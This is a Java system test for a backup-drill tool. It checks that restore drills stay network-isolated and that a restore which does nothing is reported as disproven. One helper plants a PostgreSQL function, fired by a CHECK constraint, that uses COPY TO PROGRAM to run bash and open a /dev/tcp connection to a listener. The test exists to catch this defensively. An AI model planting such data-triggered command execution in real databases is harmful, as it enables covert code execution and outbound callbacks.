package dev.muster.e2e;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import dev.muster.testkit.Covers;
import java.io.IOException;
import java.net.ServerSocket;
import java.net.URI;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.Test;

/// What a drill must withstand: data that acts, a restore that does nothing.
@SystemTest
@Needs({Part.DRILLS, Part.NETWORK})
final class DrillGuardST {

  private final Node node;

  DrillGuardST(Node node) {
    this.node = node;
  }

  @Test
  @Covers("F93")
  void dataThatCallsHomeReachesNobody() throws IOException {
    try (Listener home = new Listener();
        Tenant tenant = Tenant.database(node.kubectl(), "hostile", "{}")) {
      String host = URI.create(node.environment("MUSTER_S3_ENDPOINT")).getHost();
      tenant.psql("db-0", callsHome(host, home.port()));
      tenant.psql("db-0", "INSERT INTO hostile VALUES (1)");
      await("the data calls home where it may").until(() -> home.calls() > 0);
      Backup.ask(node, tenant).sealed();
      int before = home.calls();

      JsonNode outcome = Drill.ask(node, tenant).outcome();

      assertThat(outcome.path("outcome").asText()).as(outcome.toString()).isEqualTo("proven");
      assertThat(home.calls()).isEqualTo(before);
    }
  }

  @Test
  @Covers("F92")
  void restoreThatDoesNothingIsDisprovenThoughEverythingIsReady() {
    try (Tenant tenant =
        Tenant.database(node.kubectl(), "forgetful", "{muster.dev/engine: forgetful}")) {
      Backup.ask(node, tenant).sealed();

      JsonNode outcome = Drill.ask(node, tenant).outcome();

      assertThat(outcome.path("outcome").asText()).as(outcome.toString()).isEqualTo("disproven");
      assertThat(outcome.path("step").asText()).isEqualTo("schema");
      assertThat(outcome.path("detail").asText()).contains("tables missing", "public.t");
    }
  }

  /// A table that opens a connection whenever a row of it is written, as a restore does.
  private static String callsHome(String host, int port) {
    return """
    CREATE FUNCTION public.home(n int) RETURNS boolean LANGUAGE plpgsql AS $f$
    BEGIN
      COPY (SELECT 1)
        TO PROGRAM 'cat > /dev/null; timeout 3 bash -c "echo > /dev/tcp/%s/%d" || true';
      RETURN true;
    END $f$;
    CREATE TABLE public.hostile (n int CHECK (public.home(n)));
    """
        .formatted(host, port);
  }

  /// Counts who connects.
  private static final class Listener implements AutoCloseable {
    private final ServerSocket socket = new ServerSocket(0);
    private final AtomicInteger calls = new AtomicInteger();

    Listener() throws IOException {
      Thread.ofVirtual().start(this::listen);
    }

    int port() {
      return socket.getLocalPort();
    }

    int calls() {
      return calls.get();
    }

    private void listen() {
      try {
        while (true) {
          socket.accept().close();
          calls.incrementAndGet();
        }
      } catch (IOException e) {
        // closed: the test is over
      }
    }

    @Override
    public void close() throws IOException {
      socket.close();
    }
  }
}
